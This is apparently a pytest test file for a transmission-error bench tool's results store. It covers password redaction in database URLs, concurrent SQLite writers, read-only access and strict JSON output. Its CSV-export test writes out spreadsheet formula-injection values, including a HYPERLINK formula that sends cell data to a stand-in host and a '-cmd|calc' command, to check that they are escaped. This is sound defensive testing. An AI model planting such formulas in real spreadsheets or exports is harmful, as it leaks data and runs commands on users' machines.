"""Secrets and the results store (issue #32 s.2): passwords never shown, concurrent first
writers all recorded, a result not stored is an error, an imported bag's serial and operator
reach the store and survive a re-analysis, reading never changes a database, CSV export
cannot carry a spreadsheet formula, no in-memory store, strict JSON from spc."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

from rv_te_bench.errors import StoreError
from rv_te_bench.store import open_store
from tests.store.conftest import make_record
from tests.unit_bags import write_unit_bag

RV_TE = [sys.executable, '-m', 'rv_te_bench.cli.main']
SECRET = 's3cr3t-Pa55'


def _env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items()
           if k not in ('_ROS_WHEELS_BOOTSTRAP_COMPLETE', 'RV_TE_DB')}
    return {**env, **extra}


def _run(*args: str, env: dict[str, str] | None = None,
         timeout: float = 300) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*RV_TE, *args], capture_output=True, text=True, timeout=timeout,
                          env=env or _env(), check=False)


def _bag(path: Path, k: int) -> Path:
    """A small unit bag (1 kHz, 2 output revolutions of a 300 rpm 2K-V); k varies its TE."""
    t = np.arange(32_000) / 1000.0
    th_in = 2 * np.pi * 5.0 * t
    phi = th_in / 79.0
    return write_unit_bag(path, th_in, phi + 1e-5 * (k + 1) * np.sin(25 * phi),
                          rate_hz=1000.0, block=1000, preset='wang2020-2kv', bench_id='b')


# -- passwords ----------------------------------------------------------------------------

@pytest.mark.parametrize('url', [
    f'postgresql://qa:{SECRET}@db-host:5432/line3',
    f'postgresql://qa:{SECRET}@db-host/line3?sslmode=require',
    f'postgresql://qa:{SECRET}@@db-host/line3',               # '@' in the password
    f'postgresql://qa:{SECRET}@db-host:notaport/line3',       # malformed: port
    f'postgresql://qa:{SECRET}@[db-host/line3',              # malformed: bracket
    f'postgresql://db-host/line3?user=qa&password={SECRET}',  # password in the query
    f'postgres://qa:{SECRET}@db-host',
])
def test_redact_url_hides_the_password(url: str) -> None:
    from rv_te_bench.store import redact_url

    shown = redact_url(url)
    assert SECRET not in shown and '***' in shown
    assert 'db-host' in shown


@pytest.mark.parametrize('url', [
    f'postgresql://qa:{SECRET}@127.0.0.1:1/line3',            # nothing listens there
    f'postgresql://qa:{SECRET}@127.0.0.1:port/line3',          # non-numeric port
    f'postgresql://qa:{SECRET}@[127.0.0.1/line3',
])
def test_store_errors_never_show_the_password(url: str) -> None:
    with pytest.raises(StoreError) as exc:
        open_store(url)
    text = str(exc.value)
    assert SECRET not in text and '\n' not in text


def test_fleet_never_prints_the_password(tmp_path: Path, postgres_url: str) -> None:
    """``rv-te fleet analyze`` into PostgreSQL with a password in the URL (trust
    authentication ignores it): the summary line, --json's ``db``, from --db and from
    $RV_TE_DB, show the URL without it (before: printed in full). Without the reassembly
    advice: the phase search (~2.5 of the ~6.5 CPU s of each run) prints no URL."""
    pytest.importorskip('distributed')
    bags = tmp_path / 'bags'
    _bag(bags / 'u0', 0)
    url = postgres_url.replace('rvte@', f'rvte:{SECRET}@')
    for args, env in ((('--db', url), None), ((), _env(RV_TE_DB=url))):
        for fmt in ((), ('--json',)):
            p = _run('fleet', 'analyze', str(bags), '--workers', '1', '--force', '--no-advice',
                     *fmt, *args, env=env)
            assert p.returncode == 0, p.stderr
            assert SECRET not in p.stdout + p.stderr
            assert 'rvte:***@' in p.stdout + p.stderr
            if fmt:
                assert json.loads(p.stdout)['db'].startswith('postgresql+psycopg://rvte:***@')


# -- concurrent first writers; a result not stored -------------------------------------------

def test_concurrent_first_writers_all_recorded(tmp_path: Path, default_store: Path) -> None:
    """Four ``rv-te analyze`` at once into a store that does not exist yet (the user's
    default one): the schema is created once, under the database's lock, and all four
    records are there (before: 'table results already exists', a WARNING, exit 0, and as
    few as 1 record of 4)."""
    bags = tmp_path / 'bags'
    for k in range(4):
        _bag(bags / f'u{k}', k)
    procs = [subprocess.Popen([*RV_TE, 'analyze', str(bags / f'u{k}'), '--no-advice'],
                              env=_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True) for k in range(4)]
    outs = [p.communicate(timeout=300) for p in procs]
    assert [p.returncode for p in procs] == [0] * 4, outs
    assert not any('WARNING' in err or 'ERROR' in err for _, err in outs), outs
    with open_store(default_store) as st:
        assert len(st.query()) == 4


def test_first_writers_released_together(tmp_path: Path) -> None:
    """Six processes released by a barrier open one new SQLite store and write at the same
    instant: all six records, no error (before: 'table ... already exists' for most)."""
    import multiprocessing as mp

    from tests.store._first_writer import open_and_write

    ctx = mp.get_context('spawn')
    db = str(tmp_path / 'new.sqlite')
    barrier, errors = ctx.Barrier(6), ctx.Queue()
    procs = [ctx.Process(target=open_and_write, args=(db, k, barrier, errors))
             for k in range(6)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(120)
    got = []
    while not errors.empty():
        got.append(errors.get())
    assert got == []
    with open_store(db) as st:
        assert len(st.query()) == 6


def test_a_result_that_cannot_be_stored_is_an_error(tmp_path: Path,
                                                    default_store: Path) -> None:
    """The default store cannot be written (a folder stands where it would be): the analysis
    is still shown, then one ERROR line and exit 1 (before: a WARNING and exit 0)."""
    bags = tmp_path / 'bags'
    _bag(bags / 'u0', 0)
    default_store.mkdir(parents=True)
    p = _run('analyze', str(bags / 'u0'), '--no-advice', '--json')
    assert p.returncode == 1
    assert json.loads(p.stdout)['bags'][0]['bag'] == str(bags / 'u0')
    errors = [ln for ln in p.stderr.splitlines() if ln.startswith('ERROR')]
    assert len(errors) == 1 and 'not recorded in the results store' in errors[0]
    assert _run('analyze', str(bags / 'u0'), '--no-advice', '--no-db').returncode == 0


# -- serial and operator ------------------------------------------------------------------------

def test_imported_serial_and_operator_reach_the_store(tmp_path: Path,
                                                      default_store: Path) -> None:
    """A bag imported with a bench description's unit_under_test: ``rv-te results --serial``
    finds it with its operator (before: nothing found, both None); analysed again without
    --serial, a serial given earlier with --serial is kept (before: erased)."""
    import math

    import yaml

    rate = 1000.0
    t = np.arange(0, 40.0, 1 / rate)
    th_in = 2 * math.pi * 5.0 * t
    csv_path = tmp_path / 'run.csv'
    np.savetxt(csv_path, np.c_[t, th_in, th_in / 79.0], fmt='%.17g', delimiter=',',
               header='t_s,theta_in_rad,theta_out_rad', comments='')
    bench = tmp_path / 'bench.yaml'
    bench.write_text(yaml.safe_dump({
        'bench_id': 'b1', 'preset': 'wang2020-2kv', 'sample_rate_hz': rate,
        'unit_under_test': {'serial': 'SN-IMP-7', 'operator': 'kim'}}), encoding='utf-8')
    bags = tmp_path / 'bags'
    assert _run('import', str(csv_path), '--bench', str(bench), '--out', str(bags / 'imp'),
                '--time', 't_s', '--theta-in', 'theta_in_rad', '--theta-out',
                'theta_out_rad').returncode == 0
    assert _run('analyze', str(bags / 'imp'), '--no-advice').returncode == 0
    db = default_store
    got = json.loads(_run('results', '--db', str(db), '--serial', 'SN-IMP-7', '--json').stdout)
    assert [(r['serial'], r['operator']) for r in got] == [('SN-IMP-7', 'kim')]
    # a bag without a serial: given once with --serial, kept when analysed again without
    _bag(bags / 'plain', 3)
    assert _run('analyze', str(bags / 'plain'), '--no-advice', '--serial', 'SN-GIVEN',
                '--lot', 'L9').returncode == 0
    assert _run('analyze', str(bags / 'plain'), '--no-advice').returncode == 0
    got = json.loads(_run('results', '--db', str(db), '--serial', 'SN-GIVEN', '--json').stdout)
    assert [(r['serial'], r['lot']) for r in got] == [('SN-GIVEN', 'L9')]


# -- reading changes nothing ---------------------------------------------------------------------

def test_reading_a_database_that_is_not_a_store_changes_nothing(tmp_path: Path) -> None:
    """``rv-te results`` / ``spc --list`` on another program's SQLite file: refused in one
    line, no table made, journal mode unchanged (before: our tables created in it and it
    switched to WAL)."""
    other = tmp_path / 'inventory.sqlite'
    with sqlite3.connect(other) as conn:
        conn.execute('CREATE TABLE parts (id INTEGER PRIMARY KEY, name TEXT)')
    before = other.read_bytes()
    for args in (('results',), ('spc', '--list')):
        p = _run(*args, '--db', str(other))
        assert p.returncode == 1
        assert 'is not a results store' in p.stderr and p.stderr.count('\n') == 1
    assert other.read_bytes() == before
    with sqlite3.connect(other) as conn:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        assert tables == ['parts']
        assert conn.execute('PRAGMA journal_mode').fetchone()[0] == 'delete'


def test_a_store_in_a_read_only_folder_can_be_read(tmp_path: Path) -> None:
    """A store on a read-only file system (a share mounted read-only): results and spc read
    it (before: 'unable to open database file')."""
    src = tmp_path / 'src'
    src.mkdir()
    with open_store(src / 'r.sqlite') as st:
        for i in range(3):
            st.upsert(make_record(i))
    ro = tmp_path / 'ro'
    ro.mkdir()
    mounted = subprocess.run(['mount', '--bind', str(src), str(ro)], capture_output=True,
                             check=False).returncode == 0
    if not mounted:
        pytest.skip('cannot bind-mount here (needs root in a mount namespace)')
    try:
        if subprocess.run(['mount', '-o', 'remount,ro,bind', str(ro)], capture_output=True,
                          check=False).returncode != 0:
            pytest.skip('cannot remount read-only here')
        assert not os.access(ro, os.W_OK)
        p = _run('results', '--db', str(ro / 'r.sqlite'), '--json')
        assert p.returncode == 0, p.stderr
        assert len(json.loads(p.stdout)) == 3
        p = _run('spc', 'te_pp_rad', '--db', str(ro / 'r.sqlite'), '--json')
        assert p.returncode == 0, p.stderr
    finally:
        subprocess.run(['umount', str(ro)], capture_output=True, check=False)


# -- export, in-memory, strict JSON ---------------------------------------------------------------

def test_csv_export_escapes_formula_cells(tmp_path: Path) -> None:
    """Text cells a spreadsheet would run (=, +, -, @) are written with a leading quote;
    numbers (negative ones too) stay numbers."""
    db = tmp_path / 'r.sqlite'
    hostile = {'serial': '=HYPERLINK("http://x/?"&A1,"ok")', 'operator': '@SUM(1+1)',
               'lot': '+1-2', 'bench_id': '-cmd|calc'}
    with open_store(db) as st:
        st.upsert(replace(make_record(1), **hostile))
    out = tmp_path / 'x.csv'
    p = _run('results', '--db', str(db), '--export', str(out))
    assert p.returncode == 0, p.stderr
    with out.open(newline='', encoding='utf-8') as fh:
        (row,) = list(csv.DictReader(fh))
    for key, value in hostile.items():
        assert row[key] == "'" + value
    assert float(row['te_pp_rad']) > 0   # numbers are written as numbers
    assert all(not v.startswith(('=', '+', '@')) for v in row.values())


@pytest.mark.parametrize('db', ['sqlite://', 'sqlite:///:memory:',
                                'sqlite:///file:x?mode=memory&uri=true'])
def test_in_memory_store_refused(db: str, tmp_path: Path) -> None:
    _bag(tmp_path / 'u0', 0)
    p = _run('analyze', str(tmp_path / 'u0'), '--no-advice', '--db', db)
    assert p.returncode == 1 and 'in-memory SQLite database keeps nothing' in p.stderr


def test_spc_json_is_strict(tmp_path: Path) -> None:
    """An upper limit so far out that Cpk overflows: --json gives null for it, never
    Infinity or NaN (Python's json.loads would accept those; strict parsers do not)."""
    db = tmp_path / 'r.sqlite'
    with open_store(db) as st:
        for i in range(6):
            st.upsert(make_record(i))
    p = _run('spc', 'te_pp_rad', '--db', str(db), '--usl', '1e308', '--json')
    assert p.returncode == 0, p.stderr

    def refuse(name: str) -> None:
        raise AssertionError(name)

    doc = json.loads(p.stdout, parse_constant=refuse)
    assert doc['capability']['cpk'] is None and doc['capability']['usl'] > 1e300
